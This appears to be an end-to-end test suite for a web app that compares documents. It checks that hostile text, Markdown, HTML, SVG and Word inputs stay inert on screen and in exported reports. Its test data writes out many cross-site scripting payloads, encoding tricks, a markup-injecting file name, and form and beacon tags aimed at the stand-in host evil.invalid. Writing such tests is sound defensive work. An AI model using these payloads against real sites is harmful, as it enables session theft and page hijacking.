// Hostile documents: reports that carry script, markup, javascript: links, styles, refreshes,
// forms and outside addresses never run, never render as markup and never reach the network —
// on the page and in the exported HTML report. Text files show every payload as characters;
// web pages lose theirs to article extraction. The corpus is in fixtures/hostile/ and the table
// of what a reader sees for each input is docs/hardening.md; the checks are in guard.mjs.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import { assertNothingGotThrough, assertPanesVisible, exportAndOpenReport, guardedApp } from "./guard.mjs";
import {
  dropFiles,
  fixturePath,
  fixtureText,
  paneText,
  pasteReport,
  saveScreenshot,
  squash,
  startSite,
  stopSite,
  waitForComparison,
} from "./harness.mjs";

const HOSTILE = "tests/e2e/fixtures/hostile";

/** A fixture of the hostile corpus, as `dropFiles` and `fixtureText` name it. */
const hostile = (name) => `${HOSTILE}/${name}`;

let browser;
let server;

before(async () => ({ browser, server } = await startSite()));
after(() => stopSite({ browser, server }));

/** Waits until the comparison on screen is current (not a stale one being replaced). */
async function waitForSettled(page) {
  await waitForComparison(page);
  await page.waitForFunction(() => document.querySelector("[data-testid=comparison]")?.getAttribute("aria-busy") !== "true");
}

/** Waits until a pane shows `text`. */
function waitForPane(page, side, text) {
  return page.waitForFunction(
    ([side, text]) => document.querySelector(`[data-testid=pane-${side}]`)?.textContent.includes(text),
    [side, text],
  );
}

/** Waits until the shelf holds `count` document cards. */
function waitForCards(page, count) {
  return page.waitForFunction((n) => document.querySelectorAll("[data-testid=doc]").length === n, count);
}

/** Chooses for the right pane the report whose entry in the pair picker contains `text`. */
async function showOnRight(page, text) {
  const picker = page.locator("[data-testid=pick-right]");
  const options = await picker.locator("option").evaluateAll((all) => all.map((o) => [o.value, o.textContent]));
  const chosen = options.filter(([, label]) => label.includes(text));
  assert.equal(chosen.length, 1, `one report in the picker holds ${text}`);
  await picker.selectOption(chosen[0][0]);
}

/** Text with every kind of white space removed, to compare what wraps and collapses differently. */
const bare = (text) => text.replace(/\s+/g, "");

/** Drops two corpus files and waits for their comparison. */
async function compareFiles(page, left, right) {
  await dropFiles(page, [hostile(left), hostile(right)]);
  await waitForSettled(page);
}

/** Words that only script, hidden or attribute content of the corpus's web pages holds. */
const PAGE_MARKERS = [
  "HEAD-SCRIPT-MARKER", "BODY-ONLOAD-MARKER", "OVERLAY-MARKER", "NAV-MARKER", "ARTICLE-SCRIPT-MARKER",
  "IMG-ONERROR-MARKER", "SVG-ONLOAD-MARKER", "SVG-SCRIPT-MARKER", "SVG-TEXT-MARKER", "JS-LINK", "ONCLICK",
  "IFRAME-SRCDOC", "IFRAME-MARKER", "HIDDEN-STYLE-MARKER", "HIDDEN-ATTRIBUTE-MARKER", "FORM-INPUT-MARKER",
  "FORM-BUTTON-MARKER", "OBJECT-MARKER", "NOSCRIPT-MARKER", "TEMPLATE-MARKER", "COMMENT-MARKER",
  "REFRESH-MARKER", "BASE-MARKER", "CSS-CONTENT-MARKER", "MXSS-MARKER", "ENTITY-LINK", "DATA-IFRAME",
  "HIDDEN-VISIBILITY-MARKER", "ARIA-HIDDEN-MARKER", "ONTOGGLE-MARKER", "VIDEO-MARKER", "DIALOG-MARKER",
  "TEXTAREA-MARKER", "DISGUISED-SCRIPT-MARKER", "DISGUISED-IMG-MARKER", "DISGUISED-HIDDEN-MARKER",
  "evil.invalid", "display:none",
];

/** Corpus markers that show anywhere in `text`. */
const markersIn = (text) => PAGE_MARKERS.filter((marker) => text.includes(marker));

describe("hostile documents", () => {
  test("plain-text reports show markup, script and styles as characters, in the panes, diffs, facts and export", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "markup-ledger.txt", "markup-wire.txt");
    const left = await paneText(page, "left");
    const right = await paneText(page, "right");
    for (const payload of [
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>",
      '<a href="javascript:alert(1)">the timetable</a>',
      '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
      "<svg><script>alert(1)</script></svg>",
      "<style>body{display:none}</style>",
      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:2147483647">Overlay</div>',
      '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
      '<base href="http://evil.invalid/">',
      '<form action="http://evil.invalid/steal"><input name=q></form>',
      '<div style="background:url(http://evil.invalid/beacon.png)">Styled</div>',
      '<link rel=stylesheet href="http://evil.invalid/x.css"> <object data="http://evil.invalid/x.swf"></object> <embed src="http://evil.invalid/x.swf">',
    ]) {
      assert.ok(left.includes(payload), `left pane shows ${payload}`);
    }
    for (const payload of ["<script>alert(2)</script>", "<img src=y onerror=alert(2)>", '<a href="javascript:alert(2)">the timetable</a>']) {
      assert.ok(right.includes(payload), `right pane shows ${payload}`);
    }
    // The payloads differ by a character (src=x, src=y): the word diff marks it inside them.
    const marked = await page.evaluate(() =>
      ["left del", "right ins"].map((which) => {
        const [side, tag] = which.split(" ");
        return [...document.querySelectorAll(`[data-testid=pane-${side}] ${tag}`)]
          .filter((mark) => /^[xy]$/.test(mark.textContent))
          .map((mark) => mark.closest("[data-row]")?.textContent.includes(`<img src=${mark.textContent} onerror=`));
      }),
    );
    assert.deepEqual(marked, [[true], [true]], "src=x struck through on the left, src=y underlined on the right");
    const facts = squash(await page.locator("[data-testid=facts]").innerText());
    assert.ok(facts.includes("<script>alert(document.cookie)</script>"), "a quoted payload is a fact, shown as characters");
    await assertPanesVisible(page);
    await saveScreenshot(page, "hostile-text");
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page, "hostile-text-report");
    for (const payload of ["<script>alert(1)</script>", "<script>alert(2)</script>", "<img src=x onerror=alert(1)>", "<style>body{display:none}</style>", '<a href="javascript:alert(1)">the timetable</a>']) {
      assert.ok(report.includes(payload), `the report shows ${payload}`);
    }
    await assertNothingGotThrough(opened);

    // The shelf survives a reload: the reports come back from storage just as inert.
    await page.reload();
    await waitForSettled(page);
    await waitForPane(page, "left", "<img src=x onerror=alert(1)>");
    assert.ok((await paneText(page, "right")).includes("<script>alert(2)</script>"));
    await assertNothingGotThrough(opened);
  });

  test("fifty-six filter-evasion payloads in text files show as characters, here and in the export", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "owasp-audit.txt", "owasp-review.txt");
    const left = bare(await page.locator("[data-testid=pane-left]").textContent());
    const probes = fixtureText(hostile("owasp-audit.txt"))
      .split("\n")
      .map((line) => line.match(/^Probe (\d+) tried (.*) on the ticket form\.$/))
      .filter(Boolean);
    assert.equal(probes.length, 56);
    // Probe 23 ends a sentence at its question mark, so the row label "only in left" sits inside
    // it; its two halves are checked instead.
    const whole = probes.filter(([, number]) => number !== "23");
    for (const [, number, payload] of whole) {
      assert.ok(left.includes(bare(`Probe ${number} tried ${payload} on the ticket form.`)), `probe ${number} shown as characters`);
    }
    await assertPanesVisible(page);
    await assertNothingGotThrough(opened);

    const report = bare(await exportAndOpenReport(page, "hostile-owasp-report"));
    for (const [, number, payload] of whole) {
      assert.ok(report.includes(bare(payload)), `the report shows probe ${number} as characters`);
    }
    for (const half of ["<SCRIPTSRC=http://evil.invalid/xss.js?", "<B>ontheticketform."]) {
      assert.ok(left.includes(half) && report.includes(half), `probe 23: ${half}`);
    }
    await assertNothingGotThrough(opened);
  });

  test("Markdown keeps link text and code, and drops javascript: targets, images and raw HTML", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "links-ledger.md", "links-wire.md");
    const left = await paneText(page, "left");
    const right = await paneText(page, "right");
    assert.match(left, /The deal was signed at the port authority on Tuesday, said union leader Tomas Reyk\./, "link text kept");
    assert.match(left, /Readers can see the full agreement and its annex on the port's site\./);
    assert.ok(left.includes("The union's web form blocks input such as <script>alert(1)</script>, its spokesman said."), "code shown as characters");
    assert.ok(left.includes("<script>alert('fenced')</script>"), "a fenced block shown as characters");
    assert.ok(right.includes("blocks input such as <img src=x onerror=alert(1)>, its"), "code shown as characters");
    assert.match(left, /About 12,000 commuters use the ferries every day, according to the port authority\./, "inline HTML dropped, its text kept");
    for (const dropped of ["document.domain", "annex')", "alert%28", "onerror=alert(2)", "ontoggle", "display:none", "visibility", "raw html block", "tracking pixel", "beacon", "Hidden details", "vbscript", "base64", "parent.alert", "night ferry"]) {
      assert.ok(!left.includes(dropped) && !right.includes(dropped), `${dropped} is not shown`);
    }
    assert.ok(!right.includes("<script>alert(2)</script>"), "a link's title is not shown");
    assert.ok(left.includes("timetable at javascript:alert(1) and"), "an autolink is inert text");
    assert.equal(await page.locator("[data-testid=comparison] a").count(), 0, "no link in the panes");
    await assertPanesVisible(page);
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page, "hostile-markdown-report");
    assert.ok(report.includes("<script>alert(1)</script>"), "the report shows the code as characters");
    assert.ok(!report.includes("document.domain"), "the report has no link target");
    await assertNothingGotThrough(opened);
  });

  test("web pages: article extraction drops scripts, hidden text and attributes; escaped markup stays inert text", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "page-ledger.html", "page-wire.html");
    const left = await paneText(page, "left");
    const right = await paneText(page, "right");
    assert.match(left, /The Orlen Bay ferry strike ended on Tuesday after union leader Tomas Reyk signed a deal at the port authority offices\./);
    assert.match(left, /Port director Helga Anand said the timetable would return to normal by Friday\./, "link text kept");
    assert.match(left, /The strike had lasted nine days\./);
    assert.match(right, /Talks were chaired by mediator Ruth Okafor in the harbour master's office\./, "the article after the mutation payload is read");
    // Entities in the article are text that looks like markup: shown as characters, inert.
    assert.ok(left.includes("The union's web form shows the words <script>alert(1)</script> as an example"), "escaped script shown as text");
    assert.ok(right.includes("<img src=x onerror=alert(1)> in hand"), "escaped image shown as text");
    assert.ok(right.includes("Unions often quote &lt;b&gt; tags"), "double-escaped markup shown once decoded");
    assert.ok(right.includes("Orlen Bay ferry strike <script>alert(1)</script"), "an escaped title shown as text");
    const everything = await page.locator("body").innerText();
    assert.deepEqual(markersIn(everything), [], "no script, hidden text or attribute value shown");
    // Style sheets are not applied: text only a style sheet rule hides is read like any other.
    assert.match(left, /Only the style sheet hides this sentence about the ferry fares\./);
    await assertPanesVisible(page);
    await saveScreenshot(page, "hostile-pages");
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page, "hostile-pages-report");
    assert.ok(report.includes("<img src=x onerror=alert(1)> in hand"), "the report shows the escaped image as text");
    assert.deepEqual(markersIn(report), [], "the report shows no script, hidden text or attribute value");
    await assertNothingGotThrough(opened);
  });

  test("filter-evasion payloads as markup in a web page, and a page saved as .txt, are dropped", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "owasp-page.html", "disguised.txt");
    const left = await paneText(page, "left");
    const right = await paneText(page, "right");
    for (const number of [1, 3, 4, 10, 20, 30, 40, 45]) {
      assert.ok(left.includes(`Probe ${number} tried on the ticket form.`), `probe ${number}'s markup dropped, its sentence kept`);
    }
    for (const shown of ["evil.invalid", "javascript:", "onerror", "onload", "alert("]) {
      assert.ok(!left.includes(shown), `no ${shown} from markup`);
    }
    assert.match(right, /The agreement raises pay by 7 percent over two years and restores the night crossings\./);
    const cards = squash((await page.locator("[data-testid=doc]").allInnerTexts()).join(" | "));
    assert.match(cards, /disguised\.txt \d+ words web page/, "a page saved as .txt is read as a web page");
    assert.deepEqual(markersIn(await page.locator("body").innerText()), []);
    await assertPanesVisible(page);
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page);
    assert.ok(report.includes("Probe 45 tried on the ticket form."));
    await assertNothingGotThrough(opened);
  });

  test("entities, escapes and look-alikes in text stay as written; an SVG file shows its source; a NUL byte is refused", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "encoded-ledger.txt", "encoded-wire-utf16.txt");
    const left = await paneText(page, "left");
    const right = await paneText(page, "right");
    for (const literal of [
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;img src=x onerror=alert(1)&#62;",
      "&#x3C;svg onload=alert(1)&#x3E;",
      "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
      "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
      "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
      "＜script＞alert(1)＜/script＞",
      "javascript&#58;alert(1)",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ]) {
      assert.ok(left.includes(literal), `left pane shows ${literal} as written, not decoded`);
    }
    assert.ok(right.includes("The leaflet printed <script>alert(1)</script> as an example"), "UTF-16 text that decodes to markup is shown as characters");
    assert.ok(right.includes("<svg onload=alert(1)> in numeric entities"));

    // An SVG image is text to the reader: its source shows as characters.
    await dropFiles(page, [hostile("drawing.svg")]);
    await waitForCards(page, 3);
    const svgCard = squash(await page.locator("[data-testid=doc]").nth(2).innerText());
    assert.ok(svgCard.includes(`onload="alert('SVG-FILE-ONLOAD')"`), `the SVG's source shown as characters: ${svgCard}`);

    await dropFiles(page, [hostile("null-byte.txt")]);
    const refusal = page.locator("[role=alert]").filter({ hasText: "null-byte.txt" }).first();
    await refusal.waitFor();
    assert.match(squash(await refusal.innerText()), /binary|control characters|not a text/i, "the message says why");
    assert.equal(await page.locator("[data-testid=doc]").count(), 3, "the refused file is not added");
    await assertPanesVisible(page);
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page);
    assert.ok(report.includes("&lt;script&gt;alert(1)&lt;/script&gt;"), "the report shows entities as written");
    assert.ok(report.includes("The leaflet printed <script>alert(1)</script>"));
    await assertNothingGotThrough(opened);
  });

  test("pasted text, pasted and dropped web markup, and a hostile file name stay inert", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    // Typed or pasted as plain text: every character kept.
    await pasteReport(page, fixtureText(hostile("markup-ledger.txt")));
    await waitForCards(page, 1);
    // Rich text pasted from a browser: the clipboard's text/html goes through article extraction.
    await page.locator("[data-testid=paste]").evaluate((box, html) => {
      const data = new DataTransfer();
      data.setData("text/html", html);
      data.setData("text/plain", "plain version");
      box.focus();
      box.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
    }, fixtureText(hostile("page-ledger.html")));
    await waitForCards(page, 2);
    await waitForSettled(page);
    await waitForPane(page, "right", "Ruth Okafor");
    const left = await paneText(page, "left");
    const right = await paneText(page, "right");
    assert.ok(left.includes("<script>alert(1)</script>") && left.includes("<img src=x onerror=alert(1)>"), "pasted text shows markup as characters");
    assert.match(right, /The Orlen Bay ferry strike ended on Tuesday/, "pasted page read");
    assert.deepEqual(markersIn(right), [], "pasted page loses its scripts and hidden text");

    // A selection dragged from another page, and a file whose name is a payload.
    await page.evaluate(([html, text]) => {
      const data = new DataTransfer();
      data.setData("text/html", html);
      data.setData("text/plain", "plain version");
      for (const type of ["dragenter", "dragover", "drop"]) {
        document.body.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: data }));
      }
      const named = new DataTransfer();
      named.items.add(new File([text], '"><img src=x onerror=alert(1)><script>alert(1)</script>.txt', { type: "text/plain" }));
      for (const type of ["dragenter", "dragover", "drop"]) {
        document.body.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: named }));
      }
    }, [fixtureText(hostile("page-wire.html")), fixtureText(hostile("markup-wire.txt"))]);
    await waitForCards(page, 4);
    // A file refused for its content: the message names it, as characters.
    const refusedName = "<svg onload=alert(3)><script>alert(3)</script>.txt";
    await page.evaluate(([name, base64]) => {
      const data = new DataTransfer();
      data.items.add(new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], name, { type: "text/plain" }));
      for (const type of ["dragenter", "dragover", "drop"]) {
        document.body.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: data }));
      }
    }, [refusedName, readFileSync(fixturePath(hostile("null-byte.txt"))).toString("base64")]);
    await page.locator("[role=alert]").filter({ hasText: refusedName }).first().waitFor();
    const cards = (await page.locator("[data-testid=doc]").allInnerTexts()).map(squash);
    assert.ok(cards.some((card) => card.includes('"><img src=x onerror=alert(1)><script>alert(1)</script>.txt')), "the file name shown as characters");

    // The dropped selection against the pasted text: read like a web page.
    await showOnRight(page, "strike <script>alert(1)</script");
    await waitForPane(page, "right", "Wednesday");
    await waitForSettled(page);
    const dropped = await paneText(page, "right");
    assert.match(dropped, /The Orlen Bay ferry strike ended on Wednesday/, "dropped selection read");
    assert.deepEqual(markersIn(dropped), [], "dropped markup loses its scripts and hidden text");

    // The file of the hostile name against the pasted text, exported.
    await showOnRight(page, "<script>alert(1)</script>.txt");
    await waitForPane(page, "right", "onerror=alert(2)");
    await waitForSettled(page);
    assert.ok((await paneText(page, "right")).includes('"><img src=x onerror=alert(1)><script>alert(1)</script>.txt'), "the name shown in the pane");
    await assertPanesVisible(page);
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page, "hostile-pasted-report");
    assert.ok(report.includes('"><img src=x onerror=alert(1)><script>alert(1)</script>.txt'), "the report shows the name as characters");
    await assertNothingGotThrough(opened);
  });

  test("a Word document shows escaped markup as characters and drops link targets, images, fields and entities", async () => {
    const opened = await guardedApp(browser, server.url);
    const { page } = opened;
    await compareFiles(page, "word-ledger.docx", "page-ledger.html");
    const left = await paneText(page, "left");
    for (const payload of [
      "Orlen Bay ferry strike ends after <script>alert(1)</script> all-night talks",
      "signed a deal at <img src=x onerror=alert(1)> the port authority offices.",
      'website <iframe srcdoc="<script>parent.alert(1)</script>"></iframe> before',
      "Ruth Okafor & <b onmouseover=alert(1)>her team</b>.",
      "The external entity &xxe; stays as written, and so does &lol9;.",
    ]) {
      assert.ok(left.includes(payload), `left pane shows ${payload}`);
    }
    assert.match(left, /Port director Helga Anand said the timetable would return to normal by Friday\./, "link text kept");
    for (const dropped of ["DOCX-LINK-MARKER", "DOCX-IMAGE-MARKER", "DOCX-DELETED-MARKER", "DOCX-FIELD-MARKER", "evil.invalid", "lollol"]) {
      assert.ok(!left.includes(dropped), `${dropped} is not shown`);
    }
    const cards = squash((await page.locator("[data-testid=doc]").allInnerTexts()).join(" | "));
    assert.match(cards, /word-ledger\.docx \d+ words Word document/);
    await assertPanesVisible(page);
    await assertNothingGotThrough(opened);

    const report = await exportAndOpenReport(page);
    assert.ok(report.includes("signed a deal at <img src=x onerror=alert(1)> the port authority offices."));
    await assertNothingGotThrough(opened);
  });

  test("the guard notices markup that does reach the page", async () => {
    // The checks above pass only because nothing gets through; this shows they would fail.
    const opened = await guardedApp(browser, server.url);
    const { page, record } = opened;
    await compareFiles(page, "markup-ledger.txt", "markup-wire.txt");
    const planted = page.waitForRequest((request) => request.url().endsWith("/x-planted.png"));
    await page.locator("[data-testid=pane-left]").evaluate((pane) => {
      pane.insertAdjacentHTML("beforeend", '<img src="x-planted.png" onerror="alert(1)">');
    });
    await planted;
    await page.waitForFunction(() => window.__guard.found.length >= 2);
    const found = await page.evaluate(() => window.__guard.found);
    assert.ok(found.some((f) => f.startsWith("added <img>")), found.join("; "));
    assert.ok(found.some((f) => f.includes('onerror="alert(1)"')), found.join("; "));
    assert.ok(record.requests.some((url) => url.endsWith("/x-planted.png")), "the planted image's request is recorded");
    await assert.rejects(assertNothingGotThrough(opened), /markup from a report reached the DOM/);
  });
});
